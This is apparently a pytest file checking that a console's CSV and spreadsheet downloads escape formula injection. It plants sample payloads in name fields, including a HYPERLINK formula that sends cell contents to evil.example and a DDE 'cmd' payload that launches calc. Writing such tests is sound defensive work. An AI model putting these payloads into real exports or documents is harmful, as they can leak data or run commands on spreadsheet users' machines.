"""What a registry, an event or a council is called stays words in every file that the console hands out."""

import csv
import io
from collections.abc import Iterator, Mapping
from dataclasses import replace
from io import BytesIO
from typing import Any

import pytest
from openpyxl import load_workbook

from functions.adapters.ledger.store import from_item, to_item
from functions.console.app import console_app
from functions.console.routes import ROUTES
from schemas.codes import ExportPurpose, ReadPurpose
from tests.console.every_page import REF, a_full_world
from tests.console.office import Browser, Office, Reply
from tests.console.troubled import tables_of
from tests.notices import a_hub_contact
from tests.world import World

TEXTS = {
    "name",
    "phone",
    "own_ref",
    "decided_by",
    "team",
    "lead_team_code",
    "approved_by",
    "applier",
    "actor",
}
"""Attributes that people, or other systems, write in rows and in the registry."""
RUN = ("=", "+", "-", "@", "\t", "\r")
"""How a cell begins that a spreadsheet would run."""
HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "ends the cell": '=1","=2"\r\n"=3',
}
FILES: Mapping[str, tuple[str, Mapping[str, str]]] = {
    "messages": ("/messages/download", {"reason": ReadPurpose.CASE_WORK}),
    "referral": (f"/referrals/{REF}/download", {"reason": ReadPurpose.CASE_WORK}),
    "figures": ("/reports", {"purpose": ExportPurpose.INSPECTION, "format": "csv"}),
}


@pytest.fixture(params=list(HOSTILE.values()), ids=list(HOSTILE))
def hostile(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def browser(hostile: str) -> Iterator[Browser]:
    """A manager's, where everything that has a name has a hostile one."""
    with a_full_world() as world:
        spoil(world, hostile)
        office = Office.of(world)
        hub = a_hub_contact().model_copy(update={"hub_name": hostile})
        office.desk = replace(office.desk, hub=hub)
        office.app = console_app(lambda: office.desk)
        yield office.signed_in()


def spoil(world: World, hostile: str) -> None:
    for table in tables_of(world).tables.values():
        for key, item in list(table.items.items()):
            table.write(key, to_item(spoilt(from_item(item), hostile)))


def spoilt(item: dict[str, Any], hostile: str) -> dict[str, Any]:
    return {name: hostile if name in TEXTS and value else value for name, value in item.items()}


def take(browser: Browser, path: str, **answers: str) -> Reply:
    reply = browser.post(path, {**browser.get(path).fields(), **answers})
    assert "attachment" in reply.headers["Content-Disposition"]
    return reply


@pytest.mark.parametrize("name", FILES)
def test_no_cell_of_a_csv_file_is_run_and_each_stays_one_cell(
    browser: Browser, hostile: str, name: str
) -> None:
    path, answers = FILES[name]
    text = take(browser, path, **answers).content.decode("utf-8-sig")
    heads, *rows = csv.reader(io.StringIO(text, newline=""))
    assert rows
    assert {len(row) for row in rows} == {len(heads)}
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(RUN)]
    assert f"'{hostile}" in cells


def test_no_cell_of_a_spreadsheet_is_run(browser: Browser, hostile: str) -> None:
    reply = take(browser, "/reports", purpose=ExportPurpose.INSPECTION, format="xlsx")
    figures, notes = load_workbook(BytesIO(reply.content)).worksheets
    cells = [cell for sheet in (figures, notes) for row in sheet.iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    assert not [cell for cell in cells if cell.hyperlink]
    assert figures["B2"].value.replace("_x000D_", "\r") == hostile


def test_every_page_that_hands_out_a_file_is_tried() -> None:
    taken = {route.path for route in ROUTES if route.does and "take" in route.does.__name__}
    assert taken == {"/messages/download", "/referrals/<ref>/download", "/reports"}
